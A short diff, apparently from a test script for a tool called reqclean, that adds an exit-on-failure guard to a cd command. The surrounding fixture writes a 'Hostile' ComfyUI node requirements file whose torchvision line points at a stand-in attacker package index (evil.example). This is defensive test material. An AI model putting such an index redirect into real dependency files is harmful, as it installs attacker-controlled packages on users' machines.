@@ -13,5 +13,5 @@ cat >ComfyUI/custom_nodes/Hostile/requirements.txt <<-'END'
 	numpy<2
 	torchvision --index-url https://evil.example/simple
 END
-cd ComfyUI
+cd ComfyUI || exit
 reqclean --protect ../protect.txt requirements.txt custom_nodes/*/requirements.txt
